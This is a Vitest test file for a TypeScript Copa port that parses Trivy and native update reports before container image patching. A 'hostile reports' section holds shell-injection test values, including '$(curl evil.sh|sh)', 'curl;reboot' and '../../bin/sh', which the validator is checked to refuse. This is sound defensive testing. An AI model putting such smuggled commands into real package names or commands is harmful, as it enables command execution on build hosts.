import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { CopaError } from '../../src/engine/errors.js';
import { MAX_REPORT_BYTES, parseReport, type PatchReport, type ScannerKind } from '../../src/engine/report/index.js';
import { formatJsonPath, locateJsonError } from '../../src/engine/report/json.js';

// The shared fixtures live beside the repository (../shared, as CI lays it out), or where
// COPA_SHARED_FIXTURES points.
const SHARED = [
  process.env.COPA_SHARED_FIXTURES,
  fileURLToPath(new URL('../../../shared/fixtures', import.meta.url)),
  '/work/shared/fixtures',
].find((d): d is string => !!d && existsSync(join(d, 'trivy-reports')));
if (!SHARED) throw new Error('shared fixtures not found: set COPA_SHARED_FIXTURES to the shared/fixtures directory');
const TRIVY_DIR = join(SHARED, 'trivy-reports');
const UPSTREAM_DIR = join(SHARED, 'upstream-reports');

function parse(input: string | Uint8Array | object, scanner: ScannerKind = 'auto', source = 'report.json'): PatchReport {
  const bytes = typeof input === 'string' || input instanceof Uint8Array ? input : JSON.stringify(input);
  return parseReport(bytes, { source, scanner });
}

function fails(fn: () => unknown): CopaError {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(CopaError);
    expect((e as CopaError).category).toBe('report');
    return e as CopaError;
  }
  throw new Error('expected parseReport to throw');
}

interface Vuln {
  VulnerabilityID?: unknown;
  PkgName?: unknown;
  InstalledVersion?: unknown;
  FixedVersion?: unknown;
  [k: string]: unknown;
}

function trivy(family: string | null, version: string, vulns: Vuln[], extra: Record<string, unknown> = {}): object {
  return {
    SchemaVersion: 2,
    ArtifactName: 'example:1',
    ArtifactType: 'container_image',
    Metadata: {
      ...(family ? { OS: { Family: family, Name: version } } : {}),
      ImageConfig: { architecture: 'arm64', variant: 'v8', os: 'linux' },
    },
    Results: [{ Target: `example:1 (${family} ${version})`, Class: 'os-pkgs', Type: family ?? 'debian', Vulnerabilities: vulns }],
    ...extra,
  };
}

const v = (PkgName: string, InstalledVersion: string, FixedVersion: string | undefined, VulnerabilityID = 'CVE-2024-0001'): Vuln => ({
  VulnerabilityID,
  PkgName,
  InstalledVersion,
  ...(FixedVersion === undefined ? {} : { FixedVersion }),
  Severity: 'HIGH',
});

// ------------------------------------------------------------------------------------------
// Every fixture, with what the fixtures' README says about it.

interface Expect {
  os: { family: string; version: string } | null;
  /** fixed / all os-pkgs vulnerabilities, as in the README table */
  fixed: number;
  osVulns: number;
  langPkgs: number;
  updates: Record<string, string>; // name → fixed version
}

const TRIVY_EXPECT: Record<string, Expect> = {
  'almalinux-8.json': { os: { family: 'alma', version: '8.5' }, fixed: 1, osVulns: 1, langPkgs: 0, updates: { 'openssl-libs': '1:1.1.1k-5.el8_5' } },
  'alpine-310.json': {
    os: { family: 'alpine', version: '3.10.2' },
    fixed: 4,
    osVulns: 4,
    langPkgs: 0,
    updates: { 'libcrypto1.1': '1.1.1d-r2', 'libssl1.1': '1.1.1d-r2' },
  },
  'alpine-39.json': {
    os: { family: 'alpine', version: '3.9.4' },
    fixed: 6,
    osVulns: 6,
    langPkgs: 0,
    updates: { 'libcrypto1.1': '1.1.1d-r2', 'libssl1.1': '1.1.1d-r2', musl: '1.1.20-r5', 'musl-utils': '1.1.20-r5' },
  },
  'alpine-distroless.json': { os: { family: 'alpine', version: '3.16' }, fixed: 1, osVulns: 1, langPkgs: 0, updates: { git: '2.35.2-r0' } },
  'amazon-2.json': { os: { family: 'amazon', version: '2 (Karoo)' }, fixed: 2, osVulns: 2, langPkgs: 0, updates: { curl: '7.61.1-12.amzn2.0.1' } },
  'centos-7.json': { os: { family: 'centos', version: '7.6.1810' }, fixed: 2, osVulns: 3, langPkgs: 0, updates: { 'openssl-libs': '1:1.0.2k-19.el7' } },
  'debian-buster-ignore-unfixed.json': {
    os: { family: 'debian', version: '10.1' },
    fixed: 1,
    osVulns: 1,
    langPkgs: 0,
    updates: { 'libidn2-0': '2.0.5-1+deb10u1' },
  },
  'debian-buster.json': { os: { family: 'debian', version: '10.1' }, fixed: 1, osVulns: 2, langPkgs: 0, updates: { 'libidn2-0': '2.0.5-1+deb10u1' } },
  'debian-stretch.json': {
    os: { family: 'debian', version: '9.9' },
    fixed: 4,
    osVulns: 5,
    langPkgs: 0,
    updates: { e2fslibs: '1.43.4-2+deb9u1', e2fsprogs: '1.43.4-2+deb9u1', libcomerr2: '1.43.4-2+deb9u1', libss2: '1.43.4-2+deb9u1' },
  },
  'distroless-base.json': {
    os: { family: 'debian', version: '9.9' },
    fixed: 2,
    osVulns: 4,
    langPkgs: 0,
    updates: { 'libssl1.1': '1.1.0l-1~deb9u1', openssl: '1.1.0l-1~deb9u1' },
  },
  'fluentd-gems.json': { os: { family: 'debian', version: '10.2' }, fixed: 1, osVulns: 1, langPkgs: 1, updates: { 'libidn2-0': '2.0.5-1+deb10u1' } },
  'mariner-1.0.json': { os: { family: 'cbl-mariner', version: '1.0' }, fixed: 1, osVulns: 2, langPkgs: 0, updates: { vim: '8.2.4082-1.cm1' } },
  'npm.json': { os: null, fixed: 0, osVulns: 0, langPkgs: 1, updates: {} },
  'opensuse-leap-151.json': {
    os: { family: 'opensuse-leap', version: '15.1' },
    fixed: 2,
    osVulns: 2,
    langPkgs: 0,
    updates: { libopenssl1_1: '1.1.0i-lp151.8.6.1', 'openssl-1_1': '1.1.0i-lp151.8.6.1' },
  },
  'oraclelinux-8.json': { os: { family: 'oracle', version: '8.0' }, fixed: 2, osVulns: 2, langPkgs: 0, updates: { curl: '7.61.1-12.el8' } },
  'photon-30.json': {
    os: { family: 'photon', version: '3.0' },
    fixed: 3,
    osVulns: 3,
    langPkgs: 0,
    updates: { bash: '4.4.18-2.ph3', curl: '7.61.1-5.ph3', 'curl-libs': '7.61.1-5.ph3' },
  },
  'pip.json': { os: null, fixed: 0, osVulns: 0, langPkgs: 2, updates: {} },
  'rockylinux-8.json': { os: { family: 'rocky', version: '8.5' }, fixed: 1, osVulns: 1, langPkgs: 0, updates: { 'openssl-libs': '1:1.1.1k-5.el8_5' } },
  'ubi-7.json': { os: { family: 'redhat', version: '7.7' }, fixed: 0, osVulns: 1, langPkgs: 0, updates: {} },
  'ubuntu-1804.json': {
    os: { family: 'ubuntu', version: '18.04' },
    fixed: 4,
    osVulns: 5,
    langPkgs: 0,
    updates: {
      e2fsprogs: '1.44.1-1ubuntu1.2',
      'libcom-err2': '1.44.1-1ubuntu1.2',
      'libext2fs2': '1.44.1-1ubuntu1.2',
      libss2: '1.44.1-1ubuntu1.2',
    },
  },
};

type UpstreamExpect =
  | { format: PatchReport['format']; os: PatchReport['os']; langPkgs: number; updates: Record<string, string> }
  | { error: RegExp };

const UPSTREAM_EXPECT: Record<string, UpstreamExpect> = {
  'frontend-complex-report.json': {
    format: 'v1alpha1',
    os: { family: 'ubuntu', version: '20.04' },
    langPkgs: 0,
    updates: {
      curl: '7.68.0-1ubuntu2.19',
      'libssl1.1': '1.1.1f-1ubuntu2.18',
      'nonexistent-package': '1.0.1',
      openssl: '1.1.1f-1ubuntu2.18',
    },
  },
  'frontend-simple-report.json': {
    format: 'v1alpha1',
    os: { family: 'ubuntu', version: '20.04' },
    langPkgs: 0,
    updates: { curl: '7.68.0-1ubuntu2.19' },
  },
  'plugin-input-invalid_report.json': { error: /is not valid JSON: .* at line 1, column 1/ },
  'plugin-input-valid_report.json': { error: /looks like a scanner plugin's input/ },
  'report-invalid.json': { error: /is not valid JSON: .* at line 1, column 1/ },
  'report-pkg_types_test.json': {
    format: 'trivy',
    os: { family: 'ubuntu', version: '20.04' },
    langPkgs: 1,
    updates: { libc6: '2.31-0ubuntu9.13' },
  },
  'report-trivy_no_history.json': { format: 'trivy', os: null, langPkgs: 0, updates: { libssl3: '3.3.2-r5' } },
  'report-trivy_valid.json': { format: 'trivy', os: { family: 'alpine', version: '3.14.0' }, langPkgs: 0, updates: { 'apk-tools': '2.12.6-r0' } },
};

describe('Trivy fixtures (real Trivy output)', () => {
  const files = readdirSync(TRIVY_DIR).filter((f) => f.endsWith('.json')).sort();

  it('every fixture has an expectation', () => {
    expect(files.length).toBeGreaterThanOrEqual(20);
    expect(files.filter((f) => !(f in TRIVY_EXPECT))).toEqual([]);
  });

  it.each(files)('%s', (file) => {
    const want = TRIVY_EXPECT[file]!;
    const r = parseReport(readFileSync(join(TRIVY_DIR, file)), { source: file, scanner: 'trivy' });
    expect(r.format).toBe('trivy');
    expect(r.os).toEqual(want.os);
    if (want.os) expect(r.arch).toBe('amd64');
    expect(r.artifactName).toMatch(/^testdata\/fixtures\//);
    expect(Object.fromEntries(r.updates.map((u) => [u.name, u.fixedVersion]))).toEqual(want.updates);
    // Every fixed finding is one (package, vulnerability) pair in the result.
    expect(r.updates.reduce((n, u) => n + u.vulnerabilityIds.length, 0)).toBe(want.fixed);
    expect(r.ignored).toEqual({ langPkgs: want.langPkgs, unfixed: want.osVulns - want.fixed });
    expect(r.updates.map((u) => u.name)).toEqual([...r.updates.map((u) => u.name)].sort());
    for (const u of r.updates) {
      expect(u.installedVersion).not.toBe('');
      expect(u.vulnerabilityIds).toEqual([...new Set(u.vulnerabilityIds)].sort());
    }
    // auto-detection reads them the same way.
    expect(parseReport(readFileSync(join(TRIVY_DIR, file)), { source: file, scanner: 'auto' })).toEqual(r);
  });

  it('debian-stretch: 4 fixed of 5, the unfixed bash finding left alone', () => {
    const r = parseReport(readFileSync(join(TRIVY_DIR, 'debian-stretch.json')), { source: 'debian-stretch.json', scanner: 'trivy' });
    expect(r.updates).toHaveLength(4);
    expect(r.updates.find((u) => u.name === 'bash')).toBeUndefined();
    expect(r.ignored.unfixed).toBe(1);
    expect(r.updates[0]).toEqual({
      name: 'e2fslibs',
      installedVersion: '1.43.4-2',
      fixedVersion: '1.43.4-2+deb9u1',
      vulnerabilityIds: ['CVE-2019-5094'],
    });
  });

  it('alpine-310: two CVEs per package merged, highest fix kept', () => {
    const r = parseReport(readFileSync(join(TRIVY_DIR, 'alpine-310.json')), { source: 'alpine-310.json', scanner: 'trivy' });
    expect(r.updates).toEqual([
      { name: 'libcrypto1.1', installedVersion: '1.1.1c-r0', fixedVersion: '1.1.1d-r2', vulnerabilityIds: ['CVE-2019-1549', 'CVE-2019-1551'] },
      { name: 'libssl1.1', installedVersion: '1.1.1c-r0', fixedVersion: '1.1.1d-r2', vulnerabilityIds: ['CVE-2019-1549', 'CVE-2019-1551'] },
    ]);
  });

  it('fluentd-gems: the gemspec result is counted, not patched', () => {
    const r = parseReport(readFileSync(join(TRIVY_DIR, 'fluentd-gems.json')), { source: 'fluentd-gems.json', scanner: 'trivy' });
    expect(r.updates.map((u) => u.name)).toEqual(['libidn2-0']);
    expect(r.ignored.langPkgs).toBe(1);
  });
});

describe('upstream copa fixtures', () => {
  const files = readdirSync(UPSTREAM_DIR).filter((f) => f.endsWith('.json')).sort();

  it('every fixture has an expectation', () => {
    expect(files.length).toBeGreaterThanOrEqual(8);
    expect(files.filter((f) => !(f in UPSTREAM_EXPECT))).toEqual([]);
  });

  it.each(files)('%s', (file) => {
    const want = UPSTREAM_EXPECT[file]!;
    const run = (): PatchReport => parseReport(readFileSync(join(UPSTREAM_DIR, file)), { source: file, scanner: 'auto' });
    if ('error' in want) {
      const e = fails(run);
      expect(e.message.startsWith(file)).toBe(true);
      expect(e.message).toMatch(want.error);
      return;
    }
    const r = run();
    expect(r.format).toBe(want.format);
    expect(r.os).toEqual(want.os);
    expect(r.arch).toBe('amd64');
    expect(r.ignored.langPkgs).toBe(want.langPkgs);
    expect(Object.fromEntries(r.updates.map((u) => [u.name, u.fixedVersion]))).toEqual(want.updates);
  });

  it('the apiVersion-less frontend manifests need native (or auto), not trivy', () => {
    const bytes = readFileSync(join(UPSTREAM_DIR, 'frontend-simple-report.json'));
    expect(parseReport(bytes, { source: 'simple.json', scanner: 'native' }).updates).toHaveLength(1);
    const e = fails(() => parseReport(bytes, { source: 'simple.json', scanner: 'trivy' }));
    expect(e.message).toContain('is a copa update manifest, not a Trivy report');
    expect(e.hint).toContain('--scanner native');
  });

  it('a report without Metadata.OS takes the version rules from the os-pkgs Result.Type', () => {
    const r = parseReport(readFileSync(join(UPSTREAM_DIR, 'report-trivy_no_history.json')), { source: 'x.json', scanner: 'trivy' });
    expect(r.os).toBeNull();
    expect(r.updates).toEqual([{ name: 'libssl3', installedVersion: '3.3.2-r4', fixedVersion: '3.3.2-r5', vulnerabilityIds: ['CVE-2024-1234'] }]);
  });
});

describe('Trivy parsing details', () => {
  it('reads arch, variant and artifact name; ignores unknown fields', () => {
    const r = parse(
      trivy('debian', '12.5', [{ ...v('curl', '7.88.1-10+deb12u4', '7.88.1-10+deb12u5'), Brand: { New: ['field'] }, PkgIdentifier: { UID: 'x' } }], {
        ReportID: 'abc',
        Trivy: { Version: '0.99.0' },
        CreatedAt: '2026-01-01T00:00:00Z',
      }),
    );
    expect(r).toEqual({
      source: 'report.json',
      os: { family: 'debian', version: '12.5' },
      arch: 'arm64',
      variant: 'v8',
      artifactName: 'example:1',
      format: 'trivy',
      ignored: { langPkgs: 0, unfixed: 0 },
      updates: [{ name: 'curl', installedVersion: '7.88.1-10+deb12u4', fixedVersion: '7.88.1-10+deb12u5', vulnerabilityIds: ['CVE-2024-0001'] }],
    });
  });

  it('canonicalises the OS family (Trivy and os-release spellings)', () => {
    expect(parse(trivy('suse linux enterprise server', '15.6', [])).os).toEqual({ family: 'sles', version: '15.6' });
    expect(parse(trivy('opensuse.leap', '15.5', [])).os).toEqual({ family: 'opensuse-leap', version: '15.5' });
    expect(parse(trivy('azurelinux', '3.0', [])).os).toEqual({ family: 'azurelinux', version: '3.0' });
    expect(parse(trivy('AlmaLinux', '9.3', [])).os).toEqual({ family: 'alma', version: '9.3' });
  });

  it('counts unfixed findings: missing, null, empty and blank FixedVersion', () => {
    const r = parse(
      trivy('debian', '12', [
        v('bash', '5.2.15-2+b2', undefined),
        { ...v('perl', '5.36.0-7', undefined), FixedVersion: null },
        v('tar', '1.34+dfsg-1.2', ''),
        v('zlib1g', '1:1.2.13.dfsg-1', ' , '),
        v('curl', '7.88.1-10', '7.88.1-10+deb12u1'),
      ]),
    );
    expect(r.ignored.unfixed).toBe(4);
    expect(r.updates.map((u) => u.name)).toEqual(['curl']);
  });

  it('a result without Class is os-pkgs when its Type is an OS, library findings otherwise', () => {
    const doc = trivy('alpine', '3.19.1', []) as { Results: unknown[] };
    doc.Results = [
      { Target: 'x (alpine 3.19.1)', Type: 'alpine', Vulnerabilities: [v('musl', '1.2.4-r2', '1.2.4-r3')] },
      { Target: 'package-lock.json', Type: 'npm', Vulnerabilities: [v('lodash', '4.17.20', '4.17.21'), v('x', '1', '2')] },
      { Target: 'Dockerfile', Class: 'config', Type: 'dockerfile', Misconfigurations: [{ ID: 'DS001' }] },
      { Target: 'secret.txt', Class: 'secret', Secrets: [{ RuleID: 'aws' }] },
      { Target: 'requirements.txt', Class: 'lang-pkgs', Type: 'pip' },
    ];
    const r = parse(doc);
    expect(r.updates.map((u) => u.name)).toEqual(['musl']);
    expect(r.ignored).toEqual({ langPkgs: 2, unfixed: 0 });
  });

  it('a malformed library finding does not stop an OS patch', () => {
    const doc = trivy('debian', '12', [v('curl', '7.88.1-10', '7.88.1-10+deb12u1')]) as { Results: unknown[] };
    doc.Results.push({ Target: 'go.mod', Class: 'lang-pkgs', Type: 'gomod', Vulnerabilities: [{ PkgName: 42 }, 'junk'] });
    const r = parse(doc);
    expect(r.updates).toHaveLength(1);
    expect(r.ignored.langPkgs).toBe(2);
  });

  it('null Results, null Vulnerabilities and an empty report are fine', () => {
    expect(parse({ SchemaVersion: 2, ArtifactName: 'x', Results: null }).updates).toEqual([]);
    expect(parse(trivy('debian', '12', null as unknown as Vuln[])).updates).toEqual([]);
    expect(parse({ SchemaVersion: 2 }).os).toBeNull();
  });
});

describe('de-duplication', () => {
  it('keeps the highest fixed version by the distro comparator, not by string order', () => {
    // deb: "~" sorts before everything; rpm/apk: numeric segments (string order would say 9 > 10).
    const deb = parse(
      trivy('debian', '11', [
        v('openssl', '1.1.1n-0+deb11u3', '1.1.1n-0+deb11u5', 'CVE-2023-0002'),
        v('openssl', '1.1.1n-0+deb11u3', '1.1.1n-0+deb11u5~bpo1', 'CVE-2023-0001'),
        v('openssl', '1.1.1n-0+deb11u3', '1.1.1n-0+deb11u4', 'CVE-2023-0003'),
      ]),
    );
    expect(deb.updates).toEqual([
      {
        name: 'openssl',
        installedVersion: '1.1.1n-0+deb11u3',
        fixedVersion: '1.1.1n-0+deb11u5',
        vulnerabilityIds: ['CVE-2023-0001', 'CVE-2023-0002', 'CVE-2023-0003'],
      },
    ]);

    const rpm = parse(trivy('rocky', '9.3', [v('curl', '7.76.1-9.el9', '7.76.1-10.el9', 'A'), v('curl', '7.76.1-9.el9', '7.76.1-9.el9_2', 'B')]));
    expect(rpm.updates[0]!.fixedVersion).toBe('7.76.1-10.el9');

    const apk = parse(trivy('alpine', '3.19', [v('musl', '1.2.4-r1', '1.2.4-r10', 'A'), v('musl', '1.2.4-r1', '1.2.4-r9', 'B')]));
    expect(apk.updates[0]!.fixedVersion).toBe('1.2.4-r10');

    const epoch = parse(trivy('debian', '11', [v('bsdutils', '1:2.36.1-8+deb11u1', '2.36.1-8+deb11u2', 'A'), v('bsdutils', '1:2.36.1-8+deb11u1', '1:2.36.1-8+deb11u2', 'B')]));
    expect(epoch.updates[0]!.fixedVersion).toBe('1:2.36.1-8+deb11u2');
  });

  it('merges repeated (package, id) pairs and sorts updates by name', () => {
    const r = parse(
      trivy('ubuntu', '22.04', [
        v('zlib1g', '1:1.2.11.dfsg-2ubuntu9', '1:1.2.11.dfsg-2ubuntu9.2', 'CVE-2022-37434'),
        v('libc6', '2.35-0ubuntu3.1', '2.35-0ubuntu3.4', 'CVE-2023-4911'),
        v('libc6', '2.35-0ubuntu3.1', '2.35-0ubuntu3.4', 'CVE-2023-4911'),
        v('libc-bin', '2.35-0ubuntu3.1', '2.35-0ubuntu3.4', 'CVE-2023-4911'),
      ]),
    );
    expect(r.updates.map((u) => [u.name, u.vulnerabilityIds])).toEqual([
      ['libc-bin', ['CVE-2023-4911']],
      ['libc6', ['CVE-2023-4911']],
      ['zlib1g', ['CVE-2022-37434']],
    ]);
  });

  it('keeps the lowest installed version when findings disagree (multi-arch)', () => {
    const r = parse(trivy('debian', '12', [v('libc6', '2.36-9+deb12u4', '2.36-9+deb12u7', 'A'), v('libc6', '2.36-9+deb12u3', '2.36-9+deb12u7', 'B')]));
    expect(r.updates[0]!.installedVersion).toBe('2.36-9+deb12u3');
  });
});

describe('comma-separated fixed versions', () => {
  const one = (installed: string, fixed: string, family = 'debian', ver = '12'): string =>
    parse(trivy(family, ver, [v('pkg', installed, fixed)])).updates[0]!.fixedVersion;

  it('takes the lowest listed version newer than the installed one (the fix on its own branch)', () => {
    expect(one('1.2.0-1', '1.3.1-1, 1.2.3-1')).toBe('1.2.3-1');
    expect(one('1.2.5-1', '1.2.3-1, 1.3.1-1')).toBe('1.3.1-1');
    expect(one('8.2.4081-1.cm2', '8.2.4082-1.cm2,9.0.1-1.cm2', 'cbl-mariner', '2.0')).toBe('8.2.4082-1.cm2');
    expect(one('1.1.1c-r0', '1.1.1d-r2, 1.1.1d-r0', 'alpine', '3.10')).toBe('1.1.1d-r0');
  });

  it('when none is newer, keeps the highest (the package already carries a fix)', () => {
    expect(one('1.4.0-1', '1.2.3-1, 1.3.1-1')).toBe('1.3.1-1');
  });

  it('ignores blanks around and between items', () => {
    expect(one('1.0-1', ' 1.0-2 ,, ')).toBe('1.0-2');
  });

  it('validates every item and says which one is bad', () => {
    const e = fails(() => parse(trivy('debian', '12', [v('pkg', '1.0-1', '1.0-2, 1.0-3;id')])));
    expect(e.message).toContain('Results[0].Vulnerabilities[0].FixedVersion (item 2 of 2) is "1.0-3;id"');
  });
});

describe('native update manifests', () => {
  it('v1alpha1', () => {
    const r = parse(
      {
        apiVersion: 'v1alpha1',
        metadata: { os: { type: 'debian', version: '12' }, config: { arch: 'amd64' } },
        updates: [
          { name: 'curl', installedVersion: '7.88.1-10', fixedVersion: '7.88.1-10+deb12u5', vulnerabilityID: 'CVE-1' },
          { name: 'curl', installedVersion: '7.88.1-10', fixedVersion: '7.88.1-10+deb12u4', vulnerabilityID: 'CVE-2' },
          { name: 'bash', installedVersion: '5.2.15-2', fixedVersion: '', vulnerabilityID: 'CVE-3' },
        ],
      },
      'native',
    );
    expect(r).toEqual({
      source: 'report.json',
      format: 'v1alpha1',
      os: { family: 'debian', version: '12' },
      arch: 'amd64',
      ignored: { langPkgs: 0, unfixed: 1 },
      updates: [{ name: 'curl', installedVersion: '7.88.1-10', fixedVersion: '7.88.1-10+deb12u5', vulnerabilityIds: ['CVE-1', 'CVE-2'] }],
    });
  });

  it('v1alpha2: osupdates are patched, langupdates counted', () => {
    const r = parse({
      apiVersion: 'v1alpha2',
      metadata: { os: { type: 'alpine', version: '3.20.1' }, config: { arch: 'arm', variant: 'v7' } },
      osupdates: [{ name: 'busybox', installedVersion: '1.36.1-r29', fixedVersion: '1.36.1-r30', vulnerabilityID: 'CVE-9', type: 'alpine', class: 'os-pkgs' }],
      langupdates: [{ name: 'requests', installedVersion: '2.25.1', fixedVersion: '2.31.0', vulnerabilityID: 'CVE-8', type: 'python-pkg', class: 'lang-pkgs' }],
    });
    expect(r.format).toBe('v1alpha2');
    expect(r.arch).toBe('arm');
    expect(r.variant).toBe('v7');
    expect(r.ignored.langPkgs).toBe(1);
    expect(r.updates).toEqual([{ name: 'busybox', installedVersion: '1.36.1-r29', fixedVersion: '1.36.1-r30', vulnerabilityIds: ['CVE-9'] }]);
  });

  it('installedVersion and vulnerabilityID may be absent', () => {
    const r = parse({ metadata: { os: { type: 'ubuntu', version: '22.04' } }, updates: [{ name: 'curl', fixedVersion: '7.81.0-1ubuntu1.15' }] });
    expect(r.updates).toEqual([{ name: 'curl', installedVersion: '', fixedVersion: '7.81.0-1ubuntu1.15', vulnerabilityIds: [] }]);
  });

  it('an unsupported apiVersion lists the accepted ones', () => {
    const e = fails(() => parse({ apiVersion: 'v1beta1', updates: [] }));
    expect(e.message).toBe('report.json: apiVersion "v1beta1" is not supported; accepted: v1alpha1, v1alpha2');
  });

  it('a Trivy report under --scanner native is refused with a hint', () => {
    const e = fails(() => parse(trivy('debian', '12', []), 'native'));
    expect(e.message).toContain('is a Trivy report, not a copa update manifest');
    expect(e.hint).toContain('--scanner trivy');
  });

  it('updates without OS metadata cannot be compared', () => {
    const e = fails(() => parse({ apiVersion: 'v1alpha1', updates: [{ name: 'curl', fixedVersion: '1.0' }] }));
    expect(e.message).toContain('does not say which OS it is for');
  });
});

describe('hostile reports', () => {
  it.each([
    ['PkgName with ;', { PkgName: 'curl;reboot' }, 'Results[0].Vulnerabilities[1].PkgName is "curl;reboot"'],
    ['PkgName with $()', { PkgName: '$(curl evil.sh|sh)' }, 'Results[0].Vulnerabilities[1].PkgName is "$(curl evil.sh|sh)"'],
    ['PkgName with backticks', { PkgName: '`id`' }, 'Results[0].Vulnerabilities[1].PkgName is "`id`"'],
    ['PkgName with a newline', { PkgName: 'curl\nid' }, 'Results[0].Vulnerabilities[1].PkgName is "curl\\nid"'],
    ['PkgName as an option', { PkgName: '--allow-unauthenticated' }, 'command-line option'],
    ['PkgName with ../', { PkgName: '../../bin/sh' }, 'Results[0].Vulnerabilities[1].PkgName is "../../bin/sh"'],
    ['PkgName with a look-alike', { PkgName: 'curl\u037e' }, 'U+037E'],
    ['empty PkgName', { PkgName: '' }, 'Results[0].Vulnerabilities[1].PkgName is "", which is not a valid Debian package name: it is empty'],
    ['FixedVersion with $()', { FixedVersion: '1.0$(id)' }, 'Results[0].Vulnerabilities[1].FixedVersion is "1.0$(id)"'],
    ['FixedVersion with a space', { FixedVersion: '1.0 -y' }, 'Results[0].Vulnerabilities[1].FixedVersion is "1.0 -y"'],
    ['FixedVersion with NUL', { FixedVersion: '1.0\u0000' }, 'Results[0].Vulnerabilities[1].FixedVersion is "1.0\\u0000"'],
    ['InstalledVersion with a newline', { InstalledVersion: '1.0\nx' }, 'Results[0].Vulnerabilities[1].InstalledVersion is "1.0\\nx"'],
    ['VulnerabilityID with a newline', { VulnerabilityID: 'CVE-1\nINJECTED' }, 'Results[0].Vulnerabilities[1].VulnerabilityID is "CVE-1\\nINJECTED"'],
  ])('%s', (_what, override, message) => {
    const e = fails(() => parse(trivy('debian', '12', [v('ok', '1.0-1', '1.0-2'), { ...v('curl', '7.88.1-10', '7.88.1-11'), ...override }]), 'auto', 'evil.json'));
    expect(e.message.startsWith('evil.json: ')).toBe(true);
    expect(e.message).toContain(message);
    expect(e.message).not.toMatch(/[\u0000-\u001f\u007f-\uffff]/);
  });

  it('native manifests are checked the same way, with their own paths', () => {
    const e = fails(() => parse({ metadata: { os: { type: 'alpine', version: '3.19' } }, updates: [{ name: 'musl', fixedVersion: '1.2.4-r3' }, { name: 'a|b', fixedVersion: '1' }] }));
    expect(e.message).toContain('report.json: updates[1].name is "a|b"');
  });

  it('a hostile architecture is refused', () => {
    const doc = trivy('debian', '12', []) as { Metadata: { ImageConfig: { architecture: string } } };
    doc.Metadata.ImageConfig.architecture = 'amd64;id';
    expect(fails(() => parse(doc)).message).toContain('architecture "amd64;id"');
  });

  it('an unsupported OS is refused', () => {
    expect(fails(() => parse(trivy('wolfi', '20230201', []))).message).toContain('Wolfi images are not supported');
    expect(fails(() => parse(trivy('archlinux', '', []))).message).toMatch(/Arch Linux is not supported; supported: debian, ubuntu, alpine/);
  });

  it('an unknown os-pkgs Result.Type without Metadata.OS is refused', () => {
    const e = fails(() => parse({ SchemaVersion: 2, Results: [{ Class: 'os-pkgs', Type: 'plan9', Vulnerabilities: [v('x', '1', '2')] }] }));
    expect(e.message).toContain('Results[0].Type is "plan9"');
  });
});

describe('malformed reports', () => {
  it('not JSON: says where, by line and column', () => {
    const e = fails(() => parse('{\n  "SchemaVersion": 2,\n  "Results": [\n    {"Class": "os-pkgs",}\n  ]\n}\n'));
    expect(e.message).toBe('report.json is not valid JSON: trailing comma before "}" at line 4, column 25 (near "    {\\"Class\\": \\"os-pkgs\\",}")');
    const e2 = fails(() => parse('{"a": 1\n "b": 2}'));
    expect(e2.message).toContain('expected "," or "}" but found "\\"" at line 2, column 2');
    const e3 = fails(() => parse('{"SchemaVersion": 2, "Results": ['));
    expect(e3.message).toContain('unexpected end of the file where a value was expected at line 1, column 34');
    const e4 = fails(() => parse('{"a": "line\nbreak"}'));
    expect(e4.message).toContain('control character');
    const e5 = fails(() => parse('{} {}'));
    expect(e5.message).toContain('after the end of the JSON value at line 1, column 4');
  });

  it('empty and blank files', () => {
    expect(fails(() => parse('')).message).toBe('report.json is empty');
    expect(fails(() => parse(new Uint8Array(0))).message).toBe('report.json is empty');
    expect(fails(() => parse(' \n\t\n')).message).toBe('report.json is empty');
  });

  it('too big (over 64 MiB) is refused before parsing', () => {
    const big = new Uint8Array(MAX_REPORT_BYTES + 1).fill(0x20);
    const e = fails(() => parse(big));
    expect(e.message).toBe(`report.json is ${MAX_REPORT_BYTES + 1} bytes; reports larger than ${MAX_REPORT_BYTES} bytes (64 MiB) are refused`);
  });

  it('binary data is refused; UTF-8 and UTF-16 byte-order marks are understood', () => {
    expect(fails(() => parse(new Uint8Array([0x7b, 0xff, 0xfe, 0xfd, 0x00, 0x80]))).message).toContain('is not UTF-8 text');
    const json = JSON.stringify(trivy('debian', '12', [v('curl', '7.88.1-10', '7.88.1-11')]));
    const utf8bom = new Uint8Array([0xef, 0xbb, 0xbf, ...Buffer.from(json, 'utf8')]);
    expect(parse(utf8bom).updates).toHaveLength(1);
    const utf16 = new Uint8Array([0xff, 0xfe, ...Buffer.from(json, 'utf16le')]); // PowerShell's `>`
    expect(parse(utf16).updates).toHaveLength(1);
  });

  it('not a known format: says what is accepted', () => {
    for (const doc of ['null', '42', '"text"', '[]', '{"hello": "world"}']) {
      const e = fails(() => parse(doc));
      expect(e.message).toMatch(/^report\.json is a JSON \w+.*not a known report format; accepted: Trivy JSON/);
    }
    const legacy = fails(() => parse([{ Target: 'alpine:3.10 (alpine 3.10.2)', Vulnerabilities: [] }]));
    expect(legacy.message).toContain('Trivy format used before SchemaVersion 2');
    expect(fails(() => parse({ SchemaVersion: 3, Results: [] })).message).toContain('SchemaVersion 3; copa reads SchemaVersion 2');
  });

  it('wrong types: the zod issue becomes a JSON path', () => {
    const e1 = fails(() => parse(trivy('debian', '12', [v('ok', '1.0-1', '1.0-2'), { ...v('curl', '1', '2'), PkgName: 42 }])));
    expect(e1.message).toBe('report.json is not a valid Trivy JSON report: Results[0].Vulnerabilities[1].PkgName expected string, received number');
    const e2 = fails(() => parse({ SchemaVersion: 2, Results: [{ Class: 'os-pkgs', Type: 'debian', Vulnerabilities: [{ PkgName: 'curl', VulnerabilityID: 'CVE-1' }] }] }));
    expect(e2.message).toContain('Results[0].Vulnerabilities[0].InstalledVersion is missing (expected string)');
    const e3 = fails(() => parse({ SchemaVersion: 2, Results: { a: 1 } }));
    expect(e3.message).toContain('Results expected array, received object');
    const e4 = fails(() => parse({ SchemaVersion: 2, Metadata: { OS: { Family: 7 } } }));
    expect(e4.message).toContain('Metadata.OS.Family expected string, received number');
    const e5 = fails(() => parse({ apiVersion: 'v1alpha2', osupdates: [{ name: ['x'] }] }));
    expect(e5.message).toBe('report.json is not a valid v1alpha2 update manifest: osupdates[0].name expected string, received array');
  });
});

describe('JSON helpers', () => {
  it('formatJsonPath', () => {
    expect(formatJsonPath(['Results', 0, 'Vulnerabilities', 3, 'PkgName'])).toBe('Results[0].Vulnerabilities[3].PkgName');
    expect(formatJsonPath([])).toBe('(top level)');
